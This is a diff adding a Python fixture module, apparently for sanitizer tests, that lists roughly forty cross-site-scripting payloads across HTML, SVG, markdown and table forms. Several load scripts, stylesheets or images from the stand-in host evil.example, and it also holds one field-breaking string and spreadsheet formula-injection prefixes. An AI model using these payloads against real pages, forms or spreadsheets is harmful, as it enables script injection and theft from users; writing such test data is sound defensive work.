@@ -1,0 +1,50 @@
+"""Hostile texts, and papers that hold one in every field, list, table and file name they can."""
+
+from __future__ import annotations
+
+# Each would call hit() in a page that carried it unchanged.
+PASTED = (
+    "<script>hit()</script>",
+    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=hit()>",
+    "<img src=x onerror = 'hit()'//",
+    "<img/src=x/onerror=hit()>",
+    "<svg onload=hit()></svg>",
+    "<svg><script>hit()</script></svg>",
+    "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<iframe src=javascript:parent.hit()></iframe>",
+    "<object data=javascript:hit()></object>",
+    "<body onload=hit()>",
+    "<details open ontoggle=hit()><summary>x</summary></details>",
+    "<video src=x onerror=hit()></video>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
+    "<base href=https://evil.example/>",
+    "<form action=javascript:hit()><button autofocus onfocus=hit()>x</button></form>",
+    "<input autofocus onfocus=hit()>",
+    "<div markdown='1' onclick=hit() onpointerenter=hit()>甲</div>",
+    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
+    "<!--><img src=x onerror=hit()>-->",
+    "<a href='java&#115;cript:hit()'>甲</a>",
+    "<a href='java\tscript:hit()'>甲</a>",
+    "<a href='&#1;javascript:hit()'>甲</a>",
+    "<p style='background:url(https://evil.example/x.png)'>甲</p>",
+    "[甲](javascript:hit())",
+    "[甲](JaVaScRiPt&colon;hit())",
+    "[甲](data:text/html,<script>hit()</script>)",
+    "[甲](vbscript:hit())",
+    "![甲](x){ onerror=hit() }",
+    "[甲](a.md){ onfocus=hit() autofocus=1 tabindex=1 }",
+    "![甲](https://evil.example/x.png)",
+    "![甲](//evil.example/x.png)",
+    "<https://evil.example/\"onmouseover=hit()>",
+    "| 甲 | 乙 |\n|---|---|\n| <img src=x onerror=hit()> | [甲](javascript:hit()) |",
+    "- 甲 <img src=x onerror=hit()>\n- 乙",
+    "第一条　甲<img src=x onerror=hit()>",
+    "## 甲<img src=x onerror=hit()>",
+    "甲[^1]\n\n[^1]: <img src=x onerror=hit()>",
+)
+FIELD = """'"></title></script><img src=x onerror=hit()><script>hit()</script>"""
+FORMULAS = ("=hit()", "+hit()", "-hit()", "@hit()", "\t=hit()", "＝hit()")
